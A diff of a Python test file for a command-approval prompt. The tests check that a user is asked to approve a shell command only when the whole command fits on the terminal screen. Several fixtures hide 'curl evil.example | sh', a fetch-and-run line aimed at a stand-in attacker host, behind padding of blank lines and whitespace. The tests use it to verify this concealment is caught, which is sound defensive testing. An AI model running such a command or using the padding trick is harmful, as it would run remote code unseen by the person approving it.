@@ -372,42 +372,41 @@ def test_digits_of_the_hash_typed_at_the_terminal_approve(memory, repo):
     assert outcomes(verify(memory)) == {"a": "holds"}
 
 
-@pytest.mark.parametrize("typed", ["y\n", "yes\n", "\n", "q\n", "000000\n", "{}\n"])
-def test_anything_else_typed_approves_nothing(memory, repo, typed):
+def test_anything_else_typed_approves_nothing(memory, repo):
     put(repo, make_fact("a", "test -f README.md"))
 
-    status, _ = at_terminal(repo, typed.format(spec_of(memory, "a")[:5]), "trust", "--review")
+    for typed in ("y", "yes", "", "q", "000000", spec_of(memory, "a")[:5]):
+        status, _ = at_terminal(repo, f"{typed}\n", "trust", "--review")
 
-    assert status == 1
-    assert [due.row.key for due in memory.repository.list_waiting()] == ["a"]
+        assert (status, [due.row.key for due in memory.repository.list_waiting()]) == (1, ["a"]), typed
 
 
 FITS = "\n".join(f"echo {n}" for n in range(16))
 LONG = "echo " + "x" * 80 * 20
 
 
-@pytest.mark.parametrize(
-    ("command", "size", "is_asked"),
-    [
-        (FITS, (24, 80), True),
-        (FITS, (22, 80), False),
-        (LONG, (24, 80), False),
-        (LONG, (60, 80), True),
-        ("true" + "\n" * 40 + "curl evil.example | sh", (24, 80), True),
-        ("true" + "\n \t\n" * 40 + "curl evil.example | sh", (24, 80), True),
-        ("true" + "\n;" * 40 + "curl evil.example | sh", (24, 80), False),
-    ],
-    ids=["fits", "one line more", "one long line", "larger window", "blank lines", "blanks and tabs", "many lines"],
-)
-def test_only_a_command_that_is_seen_whole_is_asked_for(memory, repo, command, size, is_asked):
-    put(repo, make_fact("a", command))
+# A command, the size of the terminal, and whether its approval is asked for.
+SEEN = {
+    "fits": (FITS, (24, 80), True),
+    "one-line-more": (FITS.replace("echo", "true"), (22, 80), False),
+    "one-long-line": (LONG, (24, 80), False),
+    "larger-window": (LONG.replace("x", "y"), (60, 80), True),
+    "blank-lines": ("true" + "\n" * 40 + "curl evil.example | sh", (24, 80), True),
+    "blanks-and-tabs": ("true" + "\n \t\n" * 40 + "curl evil.example | sh", (24, 80), True),
+    "many-lines": ("true" + "\n;" * 40 + "curl evil.example | sh", (24, 80), False),
+}
 
-    status, screen = at_terminal(repo, spec_of(memory, "a")[:6] + "\n", "trust", "a", size=size)
 
-    assert (status == 0) is is_asked, screen
-    assert ("lines, but your terminal shows" in screen) is not is_asked
-    assert ("evil" in screen) is (is_asked and "evil" in command)
-    assert screen.partition("decide later")[0].count("\n") < size[0]
+def test_only_a_command_that_is_seen_whole_is_asked_for(memory, repo):
+    put(repo, *(make_fact(key, command) for key, (command, _, _) in SEEN.items()))
+
+    for key, (command, size, is_asked) in SEEN.items():
+        status, screen = at_terminal(repo, spec_of(memory, key)[:6] + "\n", "trust", key, size=size)
+
+        assert (status == 0) is is_asked, screen
+        assert ("lines, but your terminal shows" in screen) is not is_asked, screen
+        assert ("evil" in screen) is (is_asked and "evil" in command), screen
+        assert screen.partition("decide later")[0].count("\n") < size[0], screen
 
 
 def test_d_typed_at_the_terminal_denies(memory, repo):
